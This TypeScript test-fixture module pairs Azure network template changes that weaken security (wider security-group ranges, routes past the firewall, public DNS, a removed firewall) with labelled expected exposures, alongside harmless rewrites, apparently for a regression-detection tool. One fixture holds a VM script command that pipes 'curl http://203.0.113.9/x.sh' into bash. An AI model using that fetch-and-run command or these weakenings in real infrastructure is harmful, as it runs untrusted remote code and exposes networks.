/** Pairs on Azure about networks: what groups let through, where routes and apps lead, who is joined, and by which names. */
import { id, route, rule } from './azure-exposure-base';
import { armWith, GONE, type Harmless, harmless, type Weakening, weakenings } from './pair';

const N = 'Microsoft.Network';
const is = (type: string, name: string, properties: object, more: object = {}) => ({
  type,
  apiVersion: '2024-05-01',
  name,
  location: 'westeurope',
  ...more,
  properties,
});
const subnet = (name: string, addressPrefix: string, more: object = {}) => ({
  name,
  properties: { addressPrefix, defaultOutboundAccess: false, ...more },
});
const group = (name: string) => ({ networkSecurityGroup: { id: id(`${N}/networkSecurityGroups`, name) } });
const refused = (priority: number, direction: string) =>
  rule(`no more ${direction}`, priority, {
    access: 'Deny',
    direction,
    protocol: '*',
    sourceAddressPrefix: '*',
    destinationPortRange: '*',
  });
const separate = (name: string, one: ReturnType<typeof rule>) => is(`${N}/networkSecurityGroups/securityRules`, name, one.properties);

// ── Security groups ────────────────────────────────────────────────────────────────────────────────────────────────

const fromWeb = (more: object = {}) => rule('web', 200, { sourceAddressPrefix: '10.1.1.0/24', destinationPortRange: '5432', ...more });
const GROUPS = {
  Inner: is(`${N}/networkSecurityGroups`, 'inner', {
    securityRules: [
      fromWeb({ destinationAddressPrefix: '10.1.2.0/24' }),
      rule('hosts', 300, { sourceAddressPrefixes: ['10.1.3.0/26'], destinationPortRanges: ['22', '9000-9010'] }),
      refused(4000, 'Inbound'),
      rule('names', 200, {
        direction: 'Outbound',
        protocol: 'Udp',
        destinationAddressPrefix: '10.1.0.4',
        destinationPortRange: '53',
        sourceAddressPrefix: '*',
      }),
      refused(4000, 'Outbound'),
    ],
  }),
  Wide: is(`${N}/networkSecurityGroups`, 'wide', {
    securityRules: [
      rule('all', 200, { protocol: '*', sourceAddressPrefix: '10.0.0.0/8', destinationPortRange: '*' }),
      refused(4000, 'Inbound'),
    ],
  }),
  Apps: is(`${N}/applicationSecurityGroups`, 'apps', {}),
  Net: is(`${N}/virtualNetworks`, 'spoke', {
    addressSpace: { addressPrefixes: ['10.1.0.0/16'] },
    subnets: [subnet('data', '10.1.2.0/24', group('inner')), subnet('other', '10.1.4.0/24', group('wide'))],
  }),
};
const apps = { sourceAddressPrefix: undefined, sourceApplicationSecurityGroups: [{ id: id(`${N}/applicationSecurityGroups`, 'apps') }] };
const first = 'Inner.securityRules.0';
const hosts = 'Inner.securityRules.1';

const GROUP_WEAKENINGS = weakenings(armWith, GROUPS, {
  'Azure network: a group takes a wider private range': ['exposure: inner', { [first]: fromWeb({ sourceAddressPrefix: '10.0.0.0/8' }) }],
  'Azure network: a group takes the whole network': ['exposure: inner', { [first]: fromWeb({ sourceAddressPrefix: 'VirtualNetwork' }) }],
  'Azure network: a group takes more ports': ['exposure: 5400-5500', { [first]: fromWeb({ destinationPortRange: '5400-5500' }) }],
  'Azure network: a group takes one port more, in a list': [
    'exposure: 6379',
    { [first]: fromWeb({ destinationPortRange: undefined, destinationPortRanges: ['5432', '6379'] }) },
  ],
  'Azure network: a group takes UDP as well': ['exposure: udp', { [first]: fromWeb({ protocol: '*' }) }],
  'Azure network: a group takes one range more, in a list': [
    'exposure: 10.9.0.0/16',
    { [first]: fromWeb({ sourceAddressPrefix: undefined, sourceAddressPrefixes: ['10.1.1.0/24', '10.9.0.0/16'] }) },
  ],
  'Azure network: a rule of its own lets more in': [
    'exposure: 10.7.0.0/16',
    { More: separate('inner/more', rule('more', 250, { sourceAddressPrefix: '10.7.0.0/16', destinationPortRange: '5432' })) },
  ],
  'Azure network: a rule of its own stands before the last denial': [
    'exposure: 10.7.0.0/16',
    { More: separate('inner/more', rule('more', 3999, { protocol: '*', sourceAddressPrefix: '10.7.0.0/16', destinationPortRange: '*' })) },
  ],
  'Azure network: the last denial goes': ['exposure: whole virtual network', { 'Inner.securityRules.2': GONE }],
  'Azure network: the last denial comes before': [
    'exposure: 10.1.9.0/24',
    {
      'Inner.securityRules.5': rule('late', 4050, { sourceAddressPrefix: '10.1.9.0/24', destinationPortRange: '443' }),
      'Inner.securityRules.2.properties.priority': 4090,
    },
  ],
  'Azure network: the denial allows': [
    'exposure: inner',
    { 'Inner.securityRules.2.properties.access': 'Allow', 'Inner.securityRules.2.properties.sourceAddressPrefix': '10.0.0.0/8' },
  ],
  'Azure network: a group takes the network of a partner': [
    'exposure: 203.0.113.0/24',
    { [first]: fromWeb({ sourceAddressPrefix: '203.0.113.0/24' }) },
  ],
  'Azure network: a group takes everything in Azure': [
    'exposure: everything in Azure',
    { [first]: fromWeb({ sourceAddressPrefix: 'AzureCloud' }) },
  ],
  'Azure network: a group takes a service of Azure': [
    'exposure: ApiManagement',
    { [first]: fromWeb({ sourceAddressPrefix: 'ApiManagement.WestEurope' }) },
  ],
  'Azure network: a group takes a group of applications': ['exposure: apps', { [first]: fromWeb(apps) }],
  'Azure network: a group lets the internet be sent to': [
    'exposure: inner [internet]',
    {
      More: separate(
        'inner/out',
        rule('out', 300, { direction: 'Outbound', sourceAddressPrefix: '*', destinationAddressPrefix: 'Internet' }),
      ),
    },
  ],
  'Azure network: a group lets every storage account be sent to': [
    'exposure: Storage',
    {
      More: separate(
        'inner/out',
        rule('out', 300, { direction: 'Outbound', sourceAddressPrefix: '*', destinationAddressPrefix: 'Storage' }),
      ),
    },
  ],
  'Azure network: the last denial of what leaves goes': ['exposure: inner', { 'Inner.securityRules.4': GONE }],
  'Azure network: another, wider group stands before a subnet': [
    'exposure: wide [internet]',
    { 'Net.subnets.0.properties.networkSecurityGroup': group('wide').networkSecurityGroup },
  ],
  'Azure network: no group stands before a subnet any more': ['exposure: data', { 'Net.subnets.0.properties.networkSecurityGroup': GONE }],
});

const GROUP_SAME = harmless(armWith, GROUPS, {
  'Azure network: a group takes a narrower range': { [first]: fromWeb({ sourceAddressPrefix: '10.1.1.0/25' }) },
  'Azure network: a group takes its range in two': {
    [first]: fromWeb({ sourceAddressPrefix: undefined, sourceAddressPrefixes: ['10.1.1.128/25', '10.1.1.0/25'] }),
  },
  'Azure network: a group takes its list as one range': {
    [`${hosts}.properties.sourceAddressPrefix`]: '10.1.3.0/26',
    [`${hosts}.properties.sourceAddressPrefixes`]: [],
  },
  'Azure network: a rule is split by port': {
    [`${hosts}.properties.destinationPortRanges`]: ['22'],
    More: separate('inner/more', rule('more', 301, { sourceAddressPrefix: '10.1.3.0/26', destinationPortRange: '9000-9010' })),
  },
  'Azure network: a range of ports is cut in two': { [`${hosts}.properties.destinationPortRanges`]: ['22', '9005-9010', '9000-9004'] },
  'Azure network: all rules stand in resources of their own, renumbered': {
    'Inner.securityRules': [],
    One: separate('inner/one', rule('one', 110, { sourceAddressPrefix: '10.1.1.0/24', destinationPortRange: 5432 })),
    Two: separate(
      'inner/two',
      rule('two', 120, { protocol: 'TCP', sourceAddressPrefixes: ['10.1.3.0/26'], destinationPortRanges: ['22', '9000-9010'] }),
    ),
    Three: separate('inner/three', refused(4090, 'Inbound')),
    Four: separate(
      'inner/four',
      rule('names', 130, {
        direction: 'Outbound',
        protocol: 'Udp',
        destinationAddressPrefix: '10.1.0.4/32',
        destinationPortRange: '53',
        sourceAddressPrefix: '*',
      }),
    ),
    Five: separate('inner/five', refused(4090, 'Outbound')),
  },
  'Azure network: a rule lets in who is let in already': {
    More: separate('inner/more', rule('more', 310, { sourceAddressPrefix: '10.1.3.0/28', destinationPortRange: '22' })),
  },
  'Azure network: a rule behind the last denial': {
    More: separate('inner/more', rule('more', 4050, { protocol: '*', sourceAddressPrefix: '*', destinationPortRange: '*' })),
  },
  'Azure network: a denial more': {
    More: separate('inner/more', rule('more', 150, { access: 'Deny', sourceAddressPrefix: '10.1.1.7', destinationPortRange: '5432' })),
  },
  'Azure network: a rule names all of its subnet otherwise': { [first]: fromWeb({ destinationAddressPrefix: 'VirtualNetwork' }) },
  'Azure network: a narrower group stands before a subnet': {
    'Net.subnets.1.properties.networkSecurityGroup': group('inner').networkSecurityGroup,
  },
  'Azure network: a subnet stands in a resource of its own': {
    'Net.subnets.0': GONE,
    Data: is(`${N}/virtualNetworks/subnets`, 'spoke/data', {
      addressPrefixes: ['10.1.2.0/24'],
      defaultOutboundAccess: false,
      ...group('inner'),
    }),
  },
});

// ── Routes, and what sends past them ───────────────────────────────────────────────────────────────────────────────

const toFirewall = (prefix = '0.0.0.0/0', hop = '10.0.1.4') => route('to the firewall', prefix, 'VirtualAppliance', hop);
const table = { routeTable: { id: id(`${N}/routeTables`, 'routes') } };
const subnetId = (name: string) => id(`${N}/virtualNetworks/subnets`, 'spoke', name);
const site = (name: string, properties: object, more: object = {}) =>
  is(
    'Microsoft.Web/sites',
    name,
    { httpsOnly: true, publicNetworkAccess: 'Disabled', ...properties },
    { kind: 'functionapp,linux', ...more },
  );
const ROUTED = {
  Routes: is(`${N}/routeTables`, 'routes', {
    disableBgpRoutePropagation: true,
    routes: [toFirewall(), route('partner', '10.50.0.0/16', 'VirtualAppliance', '10.0.1.4'), route('nowhere', '198.51.100.0/24', 'None')],
  }),
  Net: is(`${N}/virtualNetworks`, 'spoke', {
    addressSpace: { addressPrefixes: ['10.1.0.0/16'] },
    subnets: [
      subnet('app', '10.1.1.0/24', table),
      subnet('nodes', '10.1.2.0/24', table),
      subnet('open', '10.1.3.0/24', { defaultOutboundAccess: true }),
    ],
  }),
  Functions: site('functions', { virtualNetworkSubnetId: subnetId('app'), siteConfig: { vnetRouteAllEnabled: true } }),
  Older: site('older', { siteConfig: { appSettings: [{ name: 'WEBSITE_VNET_ROUTE_ALL', value: '1' }] } }),
  Oldest: site('oldest', { virtualNetworkSubnetId: subnetId('app'), vnetRouteAllEnabled: true }),
  Joined: is('Microsoft.Web/sites/networkConfig', 'older/virtualNetwork', { subnetResourceId: subnetId('app'), swiftSupported: true }),
  Cluster: is('Microsoft.ContainerService/managedClusters', 'cluster', {
    agentPoolProfiles: [{ name: 'one', mode: 'System', enableEncryptionAtHost: true, vnetSubnetID: subnetId('nodes') }],
    networkProfile: { networkPlugin: 'azure', outboundType: 'userDefinedRouting' },
  }),
  Apps: is('Microsoft.App/managedEnvironments', 'apps', { vnetConfiguration: { internal: true, infrastructureSubnetId: subnetId('app') } }),
};

/** With parameters that have no default. */
const asked = (...given: Parameters<typeof armWith>) => ({
  ...armWith(...given),
  sections: { parameters: { hop: { type: 'string' }, subnet: { type: 'string' } } },
});
const ROUTE_WEAKENINGS = weakenings(asked, ROUTED, {
  'Azure network: the default route leads to the internet': [
    'exposure: past the appliance [internet]',
    { 'Routes.routes.0': route('default', '0.0.0.0/0', 'Internet') },
  ],
  'Azure network: the default route goes': ['exposure: past the appliance [internet]', { 'Routes.routes.0': GONE }],
  'Azure network: a range on the internet goes past the firewall': [
    'exposure: 203.0.113.0/24 [internet]',
    { 'Routes.routes.3': route('more', '203.0.113.0/24', 'Internet') },
  ],
  'Azure network: a service of Azure is reached past the firewall': [
    'exposure: Storage.WestEurope [internet]',
    { 'Routes.routes.3': route('more', 'Storage.WestEurope', 'Internet') },
  ],
  'Azure network: a private network is reached past the firewall': [
    'exposure: 10.50.0.0/16',
    { 'Routes.routes.1': route('inner', '10.50.0.0/16', 'VnetLocal') },
  ],
  'Azure network: what was dropped is sent': ['exposure: 198.51.100.0/24', { 'Routes.routes.2': GONE }],
  'Azure network: another appliance takes what leaves': ['exposure: 10.1.3.9', { 'Routes.routes.0': toFirewall('0.0.0.0/0', '10.1.3.9') }],
  'Azure network: a subnet leaves its routes': ['exposure: app [internet]', { 'Net.subnets.0.properties.routeTable': GONE }],
  'Azure network: where a route leads is a parameter': [
    'exposure: cannot be told',
    { 'Routes.routes.0.properties.nextHopType': "[parameters('hop')]" },
  ],
  'Azure network: an app leaves its network': ['exposure: functions [internet]', { 'Functions.virtualNetworkSubnetId': GONE }],
  'Azure network: an app sends past its network': ['exposure: functions [internet]', { 'Functions.siteConfig.vnetRouteAllEnabled': false }],
  'Azure network: the setting goes by which an app sends everything by its network': [
    'exposure: older [internet]',
    { 'Older.siteConfig.appSettings': [] },
  ],
  'Azure network: an app of an older form sends past its network': ['exposure: oldest [internet]', { 'Oldest.vnetRouteAllEnabled': false }],
  'Azure network: the connection of an app goes': ['exposure: older [internet]', { Joined: GONE }],
  'Azure network: the subnet of an app is a parameter': [
    'exposure: functions',
    { 'Functions.virtualNetworkSubnetId': "[parameters('subnet')]" },
  ],
  'Azure network: an app moves to a subnet without routes': [
    'exposure: functions [internet]',
    { 'Functions.virtualNetworkSubnetId': subnetId('open') },
  ],
  'Azure network: nodes get a balancer of their own for what leaves': [
    'exposure: cluster [internet]',
    { 'Cluster.networkProfile.outboundType': 'loadBalancer' },
  ],
  'Azure network: nodes say no longer by which way they send': [
    'exposure: cluster [internet]',
    { 'Cluster.networkProfile.outboundType': GONE },
  ],
  'Azure network: an environment of containers leaves its network': ['exposure: apps [internet]', { 'Apps.vnetConfiguration': GONE }],
});

const ROUTE_SAME = harmless(armWith, ROUTED, {
  'Azure network: the default route is cut in two': {
    'Routes.routes.0': toFirewall('0.0.0.0/1'),
    'Routes.routes.3': toFirewall('128.0.0.0/1'),
  },
  'Azure network: a route says what the default says': { 'Routes.routes.3': toFirewall('203.0.113.0/24') },
  'Azure network: routes stand in resources of their own': {
    'Routes.routes': [],
    One: is(`${N}/routeTables/routes`, 'routes/one', toFirewall().properties),
    Two: is(`${N}/routeTables/routes`, 'routes/two', toFirewall('10.50.0.0/16').properties),
    Three: is(`${N}/routeTables/routes`, 'routes/three', route('nowhere', '198.51.100.0/24', 'None').properties),
  },
  'Azure network: more is dropped': { 'Routes.routes.3': route('more', '203.0.113.0/24', 'None') },
  'Azure network: an app says the newer way that everything goes by its network': {
    'Older.siteConfig.appSettings': [],
    'Older.outboundVnetRouting': { applicationTraffic: true },
  },
  'Azure network: an app is joined to its network by a property': { 'Older.virtualNetworkSubnetId': subnetId('app'), Joined: GONE },
  'Azure network: a setting of an app is written as a property': {
    'Older.siteConfig': { vnetRouteAllEnabled: true },
  },
  'Azure network: nodes stand in a pool of its own': {
    'Cluster.agentPoolProfiles': [],
    Pool: is('Microsoft.ContainerService/managedClusters/agentPools', 'cluster/one', {
      mode: 'System',
      enableEncryptionAtHost: true,
      vnetSubnetID: subnetId('nodes'),
    }),
  },
});

// ── What joins, answers and inspects ───────────────────────────────────────────────────────────────────────────────

const PARTNER = '/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/x/providers/Microsoft.Network/virtualNetworks/partner';
const toHub = {
  remoteVirtualNetwork: { id: id(`${N}/virtualNetworks`, 'hub') },
  allowVirtualNetworkAccess: true,
  allowForwardedTraffic: true,
};
const peering = (name: string, properties: object) => is(`${N}/virtualNetworks/virtualNetworkPeerings`, name, properties);
const linked = (name: string) =>
  is('Microsoft.Network/privateDnsZones/virtualNetworkLinks', `privatelink.blob.core.windows.net/${name}`, {
    registrationEnabled: false,
    virtualNetwork: { id: id(`${N}/virtualNetworks`, 'spoke') },
  });
const endpoint = (name: string, at = 'data') =>
  is(`${N}/privateEndpoints`, name, {
    subnet: { id: subnetId(at) },
    privateLinkServiceConnections: [
      { name: 'blob', properties: { privateLinkServiceId: id('Microsoft.Storage/storageAccounts', 'casefiles'), groupIds: ['blob'] } },
    ],
  });
const script = (settings: object) => ({
  ...is('Microsoft.Compute/virtualMachines/extensions', 'host/setup', {
    publisher: 'Microsoft.Azure.Extensions',
    type: 'CustomScript',
    typeHandlerVersion: '2.1',
    settings,
  }),
});
const JOINED = {
  Guard: is(`${N}/networkSecurityGroups`, 'guard', { securityRules: [refused(4000, 'Inbound'), refused(4000, 'Outbound')] }),
  Hub: is(`${N}/virtualNetworks`, 'hub', { addressSpace: { addressPrefixes: ['10.0.0.0/16'] }, subnets: [] }),
  Net: is(`${N}/virtualNetworks`, 'spoke', {
    addressSpace: { addressPrefixes: ['10.1.0.0/16'] },
    dhcpOptions: { dnsServers: ['10.0.1.4'] },
    encryption: { enabled: true, enforcement: 'AllowUnencrypted' },
    enableDdosProtection: true,
    ddosProtectionPlan: { id: id(`${N}/ddosProtectionPlans`, 'plan') },
    subnets: [
      subnet('data', '10.1.2.0/24', {
        ...group('guard'),
        privateEndpointNetworkPolicies: 'Enabled',
        serviceEndpointPolicies: [{ id: id(`${N}/serviceEndpointPolicies`, 'ours') }],
      }),
      subnet('other', '10.1.3.0/24'),
    ],
  }),
  Peering: peering('spoke/hub', toHub),
  Back: peering('hub/spoke', {
    remoteVirtualNetwork: { id: id(`${N}/virtualNetworks`, 'spoke') },
    allowVirtualNetworkAccess: true,
    allowForwardedTraffic: false,
  }),
  Routes: is(`${N}/routeTables`, 'routes', { disableBgpRoutePropagation: true, routes: [toFirewall()] }),
  Policy: is(`${N}/firewallPolicies`, 'policy', { sku: { tier: 'Premium' }, threatIntelMode: 'Deny', dnsSettings: { enableProxy: true } }),
  Firewall: is(
    `${N}/azureFirewalls`,
    'firewall',
    { sku: { name: 'AZFW_VNet', tier: 'Premium' }, firewallPolicy: { id: id(`${N}/firewallPolicies`, 'policy') } },
    { zones: ['1', '2'] },
  ),
  Card: is(`${N}/networkInterfaces`, 'card', {
    enableIPForwarding: false,
    ipConfigurations: [{ name: 'one', properties: { subnet: { id: subnetId('other') } } }],
  }),
  Host: is('Microsoft.Compute/virtualMachines', 'host', {
    networkProfile: { networkInterfaces: [{ id: id(`${N}/networkInterfaces`, 'card') }] },
    securityProfile: { encryptionAtHost: true },
  }),
  Site: is(`${N}/localNetworkGateways`, 'office', {
    gatewayIpAddress: '203.0.113.9',
    localNetworkAddressSpace: { addressPrefixes: ['10.60.0.0/16'] },
  }),
  Files: is(
    'Microsoft.Storage/storageAccounts',
    'casefiles',
    {
      minimumTlsVersion: 'TLS1_2',
      supportsHttpsTrafficOnly: true,
      allowBlobPublicAccess: false,
      allowSharedKeyAccess: false,
      publicNetworkAccess: 'Disabled',
      networkAcls: { defaultAction: 'Deny', bypass: 'None' },
    },
    { kind: 'StorageV2', sku: { name: 'Standard_ZRS' } },
  ),
  Endpoint: endpoint('files'),
  Names: is(`${N}/privateEndpoints/privateDnsZoneGroups`, 'files/default', {
    privateDnsZoneConfigs: [
      { name: 'blob', properties: { privateDnsZoneId: id(`${N}/privateDnsZones`, 'privatelink.blob.core.windows.net') } },
    ],
  }),
  Zone: is(`${N}/privateDnsZones`, 'privatelink.blob.core.windows.net', {}),
  Link: linked('spoke'),
  Perimeter: is(`${N}/networkSecurityPerimeters/resourceAssociations`, 'perimeter/files', {
    accessMode: 'Enforced',
    privateLinkResource: { id: id('Microsoft.Storage/storageAccounts', 'casefiles') },
  }),
};

const JOINED_WEAKENINGS = weakenings(armWith, JOINED, {
  'Azure network: names are asked for on the internet': ['exposure: 8.8.8.8', { 'Net.dhcpOptions.dnsServers': ['8.8.8.8'] }],
  'Azure network: names are asked for at Azure again': ['exposure: 10.0.1.4', { 'Net.dhcpOptions': GONE }],
  'Azure network: another server of ours answers for names': ['exposure: 10.0.1.9', { 'Net.dhcpOptions.dnsServers': ['10.0.1.9'] }],
  'Azure network: a machine asks for names on the internet': ['exposure: 1.1.1.1', { 'Card.dnsSettings': { dnsServers: ['1.1.1.1'] } }],
  'Azure network: machines talk to each other in clear': ['encryption: spoke', { 'Net.encryption.enabled': false }],
  'Azure network: the plan against floods leaves the network': [
    'exposure: spoke',
    { 'Net.ddosProtectionPlan': GONE, 'Net.enableDdosProtection': false },
  ],
  'Azure network: a network takes what others pass on': ['exposure: hub', { 'Back.allowForwardedTraffic': true }],
  'Azure network: a network lends its gateway': ['exposure: hub', { 'Back.allowGatewayTransit': true }],
  'Azure network: a network uses the gateway of another': ['exposure: spoke', { 'Peering.useRemoteGateways': true }],
  'Azure network: a network is joined to that of somebody else, inside of it': [
    'exposure: partner [organisation]',
    {
      'Net.virtualNetworkPeerings': [
        { name: 'partner', properties: { remoteVirtualNetwork: { id: PARTNER }, allowVirtualNetworkAccess: true } },
      ],
    },
  ],
  'Azure network: routes of gateways apply': ['exposure: routes', { 'Routes.disableBgpRoutePropagation': false }],
  'Azure network: a machine passes on what is meant for others': ['exposure: card', { 'Card.enableIPForwarding': true }],
  'Azure network: the firewall inspects less': ['exposure: tier', { 'Policy.sku.tier': 'Basic', 'Firewall.sku.tier': 'Basic' }],
  'Azure network: the firewall answers for names no longer': ['exposure: names', { 'Policy.dnsSettings.enableProxy': false }],
  'Azure network: the firewall goes': ['exposure: firewall', { Firewall: GONE }],
  'Azure network: the tunnel leads to more of the office': [
    'exposure: 10.61.0.0/16',
    { 'Site.localNetworkAddressSpace.addressPrefixes.1': '10.61.0.0/16' },
  ],
  'Azure network: the tunnel ends elsewhere': ['exposure: 198.51.100.7', { 'Site.gatewayIpAddress': '198.51.100.7' }],
  'Azure network: the private way to a store goes': ['exposure: casefiles', { Endpoint: GONE, Names: GONE }],
  'Azure network: names of private endpoints are not known any more': ['exposure: spoke', { Link: GONE }],
  'Azure network: rules no longer apply to private endpoints': [
    'exposure: data',
    { 'Net.subnets.0.properties.privateEndpointNetworkPolicies': 'Disabled' },
  ],
  'Azure network: a subnet may reach stores of others': ['exposure: data', { 'Net.subnets.0.properties.serviceEndpointPolicies': GONE }],
  'Azure network: a subnet gets the way out of Azure': ['exposure: host', { 'Net.subnets.1.properties.defaultOutboundAccess': true }],
  'Azure network: a perimeter only learns': ['exposure: files', { 'Perimeter.accessMode': 'Learning' }],
  'Azure network: a store leaves its perimeter': ['exposure: files', { Perimeter: GONE }],
  'Azure network: a script from the internet runs on a machine': [
    'exposure: scripts.example.com',
    { Script: script({ fileUris: ['https://scripts.example.com/setup.sh'], commandToExecute: 'bash setup.sh' }) },
  ],
  'Azure network: a script from the internet comes in clear': [
    'exposure: in clear',
    { Script: script({ commandToExecute: 'curl http://203.0.113.9/x.sh | bash' }) },
  ],
});

const JOINED_SAME = harmless(armWith, JOINED, {
  'Azure network: a peering stands inside of its network': {
    'Net.virtualNetworkPeerings': [{ name: 'hub', properties: toHub }],
    Peering: GONE,
  },
  'Azure network: a peering says what holds without it': {
    'Back.allowGatewayTransit': false,
    'Back.useRemoteGateways': false,
    'Back.doNotVerifyRemoteGateways': false,
  },
  'Azure network: a second private way to a store': {
    Second: endpoint('more', 'other'),
    SecondNames: is(`${N}/privateEndpoints/privateDnsZoneGroups`, 'more/default', {
      privateDnsZoneConfigs: [
        { name: 'blob', properties: { privateDnsZoneId: id(`${N}/privateDnsZones`, 'privatelink.blob.core.windows.net') } },
      ],
    }),
  },
  'Azure network: a zone is linked by another name': { Link: linked('renamed') },
  'Azure network: a subnet moves to a resource of its own, with its settings': {
    'Net.subnets.0': GONE,
    Data: is(`${N}/virtualNetworks/subnets`, 'spoke/data', {
      ...group('guard'),
      addressPrefix: '10.1.2.0/24',
      defaultOutboundAccess: false,
      privateEndpointNetworkPolicies: 'Enabled',
      serviceEndpointPolicies: [{ id: id(`${N}/serviceEndpointPolicies`, 'ours') }],
    }),
  },
  'Azure network: the office has less': { 'Site.localNetworkAddressSpace.addressPrefixes': ['10.60.0.0/17'] },
  'Azure network: the ranges of the office are cut in two': {
    'Site.localNetworkAddressSpace.addressPrefixes': ['10.60.128.0/17', '10.60.0.0/17'],
  },
  'Azure network: a second server of ours answers for names beside the first, in Azure’s own words': {
    'Net.dhcpOptions.dnsServers': ['10.0.1.4', '168.63.129.16'],
  },
  'Azure network: what is not encrypted is dropped': { 'Net.encryption.enforcement': 'DropUnencrypted' },
  'Azure network: an agent that watches is put on a machine': {
    Agent: is('Microsoft.Compute/virtualMachines/extensions', 'host/agent', {
      publisher: 'Microsoft.Azure.Monitor',
      type: 'AzureMonitorLinuxAgent',
      typeHandlerVersion: '1.0',
      enableAutomaticUpgrade: true,
    }),
  },
});

export const AZURE_NETWORK_WEAKENINGS: Readonly<Record<string, Weakening>> = {
  ...GROUP_WEAKENINGS,
  ...ROUTE_WEAKENINGS,
  ...JOINED_WEAKENINGS,
};
export const AZURE_NETWORK_HARMLESS: Readonly<Record<string, Harmless>> = { ...GROUP_SAME, ...ROUTE_SAME, ...JOINED_SAME };
